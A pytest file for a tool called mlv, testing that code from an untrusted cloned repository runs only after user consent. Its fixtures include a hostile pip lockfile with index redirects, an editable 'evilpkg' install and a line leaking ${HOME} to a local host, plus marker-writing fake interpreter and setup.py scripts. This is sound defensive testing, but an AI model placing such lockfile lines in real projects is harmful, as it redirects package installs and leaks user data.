"""A cloned repository is untrusted: nothing from it runs before the user agrees.

The only repository code mlv runs is the recorded command after consent (`--yes`, or a yes on a
terminal) and the command given to `snapshot --run`. An interpreter configured as repository
content (`python: ./tools/py`) is probed only under the same consent; elsewhere the environment
is reported as not captured.
"""

from __future__ import annotations

import json
import os
import pty
import subprocess
import sys
from pathlib import Path

import pytest

from mlv.env import environment
from mlv.env.fresh import read_lockfile
from tests.conftest import VENV_BIN, git, mlv
from tests.reproduce_helpers import DETERMINISTIC_SCRIPT, craft_experiment, record_of, script_project
from tests.terminal_helpers import TERMINAL_ENV


def _hostile_repo(tmp_path: Path) -> tuple[Path, Path]:
    """An experiment whose committed config runs `./tools/py` (which leaves MARKER) as its python."""
    marker = tmp_path / "marker"
    repo = script_project(tmp_path / "hostile", DETERMINISTIC_SCRIPT, command="./tools/py train.py")
    (repo / "tools").mkdir()
    py = repo / "tools" / "py"
    py.write_text(f"#!/bin/sh\ntouch '{marker}'\nexec '{sys.executable}' \"$@\"\n")
    py.chmod(0o755)
    config = repo / ".mlv" / "config.yaml"
    config.write_text(config.read_text() + "python: ./tools/py\n")
    git(repo, "add", "tools/py")
    mlv(repo, "snapshot", "--run", "./tools/py train.py", "-m", "hostile")  # --run is consent
    assert marker.exists()
    marker.unlink()
    for cached in (repo / ".git" / "mlv").glob("env-*.json"):  # a clone has no capture cache
        cached.unlink()
    return repo, marker


def _with_tty(repo: Path, args: list[str], answer: bytes) -> tuple[int, str]:
    """Run mlv with a terminal on stdin that types ANSWER; its exit code and stderr."""
    master, slave = pty.openpty()
    try:
        os.write(master, answer)
        proc = subprocess.run([str(Path(VENV_BIN) / "mlv"), *args], cwd=repo, stdin=slave,
                              capture_output=True, text=True, timeout=120, check=False,
                              env={**os.environ, **TERMINAL_ENV})
    finally:
        os.close(slave)
        os.close(master)
    return proc.returncode, proc.stderr


def test_reproduce_answered_no_runs_nothing(tmp_path: Path) -> None:
    repo, marker = _hostile_repo(tmp_path)
    code, stderr = _with_tty(repo, ["reproduce", "HEAD"], b"n\n")
    assert code == 2, stderr
    assert "not confirmed; nothing was run" in stderr
    assert "'./tools/py' is inside the repository" in stderr
    assert not marker.exists()


def test_reproduce_without_a_terminal_runs_nothing(tmp_path: Path) -> None:
    repo, marker = _hostile_repo(tmp_path)
    for env_mode in ("current", "fresh"):
        proc = mlv(repo, "reproduce", "HEAD", "--env", env_mode, check=False, input_text="n\n")
        assert proc.returncode == 2, proc.stderr
        assert "without confirmation" in proc.stderr
        assert not marker.exists(), env_mode


def test_reproduce_with_yes_may_run_it(tmp_path: Path) -> None:
    repo, marker = _hostile_repo(tmp_path)
    proc = mlv(repo, "reproduce", "HEAD", "--yes", "--json", check=False)
    assert proc.returncode == 0, proc.stderr
    assert json.loads(proc.stdout)["verdict"] == "reproduced"
    assert marker.exists()


def test_diff_workspace_runs_nothing(tmp_path: Path) -> None:
    repo, marker = _hostile_repo(tmp_path)
    proc = mlv(repo, "diff", "--workspace", "--json")
    assert not marker.exists()
    assert "inside the repository" in json.dumps(json.loads(proc.stdout))


def test_snapshot_without_run_runs_nothing_and_says_so(tmp_path: Path) -> None:
    repo, marker = _hostile_repo(tmp_path)
    before = record_of(repo)["environment"]
    (repo / "notes.md").write_text("notes\n")
    git(repo, "add", "notes.md")
    proc = mlv(repo, "snapshot", "-m", "notes")
    assert not marker.exists()
    assert "the Python environment was not captured" in proc.stderr
    assert "'./tools/py' is inside the repository" in proc.stderr
    after = record_of(repo)["environment"]
    assert after["lockfile"] == before["lockfile"]  # HEAD's environment, said so, not a new one
    assert git(repo, "status", "--porcelain") == ""


def test_snapshot_without_run_and_no_earlier_record_records_unknown(tmp_path: Path) -> None:
    marker = tmp_path / "marker"
    repo = script_project(tmp_path / "p", DETERMINISTIC_SCRIPT, command="./tools/py train.py")
    (repo / "tools").mkdir()
    (repo / "tools" / "py").write_text(f"#!/bin/sh\ntouch '{marker}'\nexec '{sys.executable}' \"$@\"\n")
    (repo / "tools" / "py").chmod(0o755)
    config = repo / ".mlv" / "config.yaml"
    config.write_text(config.read_text() + "python: ./tools/py\n")
    proc = mlv(repo, "snapshot", "-m", "first")
    assert not marker.exists()
    assert "recorded as unknown" in proc.stderr
    assert record_of(repo)["environment"]["python"] == "unknown"


def test_snapshot_without_run_refuses_a_corrupt_head_record(tmp_path: Path) -> None:
    # HEAD's environment is repeated only from a record that reads; a damaged one is named, not
    # taken for "no record" (which would record the environment as unknown and hide the damage).
    repo, marker = _hostile_repo(tmp_path)
    damaged = craft_experiment(repo, lambda doc: doc.update(environment="not an environment"))
    git(repo, "reset", "-q", "--soft", damaged)
    (repo / "notes.md").write_text("notes\n")
    proc = mlv(repo, "snapshot", "-m", "notes", check=False)
    assert proc.returncode == 1, proc.stderr
    assert f"commit {damaged[:10]} is not a valid experiment" in proc.stderr
    assert "Traceback" not in proc.stderr and not marker.exists()
    assert git(repo, "rev-parse", "HEAD") == damaged  # no experiment commit was made


def test_git_commit_with_hooks_runs_nothing(tmp_path: Path) -> None:
    repo, marker = _hostile_repo(tmp_path)
    mlv(repo, "hooks", "install")
    (repo / "notes.md").write_text("notes\n")
    git(repo, "add", "notes.md")
    proc = subprocess.run(["git", "commit", "-q", "-m", "notes"], cwd=repo, capture_output=True, text=True,
                          check=False)
    assert proc.returncode == 0, proc.stderr
    assert not marker.exists()
    assert "was not checked" in proc.stderr and "git hooks never run repository code" in proc.stderr


def test_snapshot_run_is_consent(tmp_path: Path) -> None:
    repo, marker = _hostile_repo(tmp_path)
    mlv(repo, "hooks", "install")
    proc = mlv(repo, "snapshot", "--run", "./tools/py train.py")
    assert marker.exists()
    assert "not captured" not in proc.stderr and "not checked" not in proc.stderr


@pytest.mark.parametrize(("named", "inside"), [
    ("python3", False),  # a name on PATH: the user's own, wherever PATH leads
    ("./tools/py", True),
    ("tools/py", True),
    ("ABS_INSIDE", True),
    ("ABS_OUTSIDE", False),
    ("LINK_OUTSIDE_TO_INSIDE", True),
])
def test_which_interpreters_are_repository_content(tmp_path: Path, monkeypatch: pytest.MonkeyPatch,
                                                   named: str, inside: bool) -> None:
    root = tmp_path / "repo"
    (root / "tools").mkdir(parents=True)
    script = root / "tools" / "py"
    for path in (script, root / "tools" / "python3"):
        path.write_text("#!/bin/sh\n")
        path.chmod(0o755)
    link = tmp_path / "elsewhere-py"
    link.symlink_to(script)
    named = {"ABS_INSIDE": str(script), "ABS_OUTSIDE": sys.executable,
             "LINK_OUTSIDE_TO_INSIDE": str(link)}.get(named, named)
    # Even a PATH leading into the repository (a project venv, activated) is the user's choice.
    monkeypatch.setenv("PATH", f"{root / 'tools'}{os.pathsep}{os.environ['PATH']}")
    found = environment.resolve_interpreter(None, named, root)
    assert found.from_repository is inside


# -- --env fresh and a hostile lockfile ----------------------------------------------------------

HOSTILE_LOCKFILE = """\
# mlv environment lockfile
--index-url http://127.0.0.1:9/simple
--extra-index-url=http://127.0.0.1:9/extra
--trusted-host 127.0.0.1
--find-links ./tools
-e ./tools/evilpkg
-r ../outside.txt
leak @ https://127.0.0.1:9/${HOME}
local @ file:///srv/pkg
"""


def test_lockfile_lines_are_sorted_into_requirements_and_ignored() -> None:
    contents = read_lockfile(HOSTILE_LOCKFILE.encode() + b"six==1.16.0\nnumpy==1.26.4 ; python_version >= '3.9'\n")
    assert contents.requirements == ["six==1.16.0", "numpy==1.26.4 ; python_version >= '3.9'"]
    # A path of the recording machine is never passed either: the user skips or substitutes it.
    assert contents.outside_index == [] and [line.name for line in contents.local] == ["local"]
    assert len(contents.ignored) == 7 and all(line.startswith(("-", "leak")) for line in contents.ignored)


def _hostile_lockfile_experiment(tmp_path: Path) -> tuple[Path, str, Path]:
    marker = tmp_path / "built"
    repo = script_project(tmp_path / "p", DETERMINISTIC_SCRIPT)
    mlv(repo, "snapshot", "--run", "python train.py", "-m", "base")
    evil = repo / "tools" / "evilpkg"
    evil.mkdir(parents=True)
    (evil / "setup.py").write_text(f"open({str(marker)!r}, 'w').close()\nfrom setuptools import setup\nsetup()\n")
    lock = str(record_of(repo)["environment"]["lockfile"])
    (repo / lock).write_text(HOSTILE_LOCKFILE)
    git(repo, "add", "-A")
    tree = git(repo, "write-tree")
    git(repo, "reset", "-q")
    sha = craft_experiment(repo, lambda doc: None, tree=tree)
    return repo, sha, marker


def test_env_fresh_shows_the_hostile_lines_before_asking(tmp_path: Path) -> None:
    repo, sha, marker = _hostile_lockfile_experiment(tmp_path)
    proc = mlv(repo, "reproduce", sha, "--env", "fresh", check=False)
    assert proc.returncode == 2
    shown = proc.stderr[:proc.stderr.index("error:")]
    for line in ("--index-url http://127.0.0.1:9/simple", "-e ./tools/evilpkg", "--trusted-host 127.0.0.1",
                 "-r ../outside.txt", "leak @ https://127.0.0.1:9/${HOME}"):
        assert line in shown
    assert "install from a path of the machine" in shown and "local @ file:///srv/pkg" in shown
    assert not marker.exists()


def test_env_fresh_never_passes_the_lockfile_options_to_pip(tmp_path: Path) -> None:
    repo, sha, marker = _hostile_lockfile_experiment(tmp_path)
    lock = str(record_of(repo)["environment"]["lockfile"])
    # Without the file:// line the build needs nothing from anywhere: an index redirect, a -e or
    # a -r reaching pip would fail it, or run evilpkg's setup.py.
    craft = HOSTILE_LOCKFILE.replace("local @ file:///srv/pkg\n", "")
    (repo / lock).write_text(craft)
    git(repo, "add", "-A")
    tree = git(repo, "write-tree")
    git(repo, "reset", "-q")
    sha = craft_experiment(repo, lambda doc: None, tree=tree)
    proc = mlv(repo, "reproduce", sha, "--env", "fresh", "--yes", "--json", check=False)
    assert proc.returncode in (0, 1), proc.stderr
    assert "Building a fresh environment" in proc.stderr
    assert not marker.exists()
